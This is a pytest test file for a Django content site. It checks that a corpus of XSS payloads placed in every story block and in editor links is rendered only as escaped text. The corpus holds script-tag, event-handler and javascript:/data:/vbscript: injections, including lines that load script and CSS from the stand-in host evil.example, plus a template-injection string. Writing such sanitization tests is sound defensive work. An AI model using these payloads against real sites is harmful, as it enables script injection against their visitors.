"""A corpus of payloads through every block: what editors type, or what an import leaves, never becomes markup."""

import json
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.test import Client

from content.blocks.blocks import StoryBlocks, TextBlock
from tests.factories.catalog import ProductFactory
from tests.factories.content import every_block, make_film, make_image, make_story
from tests.factories.events import make_event
from tests.factories.inventory import stocked_sku

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt/src=//evil.example/x.js>",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover='alert(4)",
    '" autofocus onfocus="alert(5)',
    "<svg/onload=alert(6)>",
    "</title><svg><animate onbegin=alert(7)>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    "<a href='javascript:alert(9)'>霜</a>",
    "<style>@import'//evil.example'</style>",
    "</textarea><details open ontoggle=alert(10)>",
    "{{ 7|add:7 }}{% debug %}",
    "<!--><script>alert(11)</script>-->",
    "\u2028\u202e<math><mi xlink:href='data:x,<script>alert(12)</script>'>",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
)


@pytest.mark.django_db
@pytest.mark.once
def test_no_block_lets_a_payload_out(client: Client) -> None:
    text = " ".join(CORPUS)
    image = make_image(title=text[:250], description=text[:250])
    product = stocked_sku(product=ProductFactory(title=text[:80], subtitle=text[:80], cover=image)).product
    film = make_film(title=text[:80])
    event = make_event(title=text[:255], standfirst=text[:160], place=text[:60])
    blocks = every_block(text=text, image=image, product=product, film=film, event=event)
    story = make_story(*blocks)

    response = client.get(story.url)
    page = BeautifulSoup(response.content, "html.parser")

    assert response.status_code == 200
    assert {row["type"] for row in blocks} == set(StoryBlocks().child_blocks)
    for script in page.find_all("script"):
        if script.get("type") == "application/ld+json":
            json.loads(script.string)
        else:
            assert script["src"].startswith("/static/")
            assert not script.string
    assert not page.find_all(["iframe", "style", "math", "animate", "object", "embed"])
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.lower().startswith("on") or name == "style"], tag
        for name in ("href", "src", "action", "xlink:href"):
            assert not str(tag.get(name, "")).strip().lower().startswith(("javascript:", "data:", "vbscript:")), tag
    # Everything was there, as text.
    for payload in CORPUS[:12]:
        assert payload in page.get_text()
    assert "14" not in page.find(class_="quote").get_text()


@pytest.mark.parametrize("address", LINKS)
def test_the_editor_keeps_no_link_that_runs(address: str) -> None:
    content = {
        "blocks": [
            {
                "key": "a",
                "text": "霜",
                "type": "unstyled",
                "depth": 0,
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": 0, "length": 1, "key": 0}],
            }
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": address}}},
    }

    value: Any = TextBlock().value_from_datadict({"body": json.dumps(content)}, {}, "body")

    links = BeautifulSoup(value.source, "html.parser").find_all("a")
    assert not [link for link in links if link.get("href")]
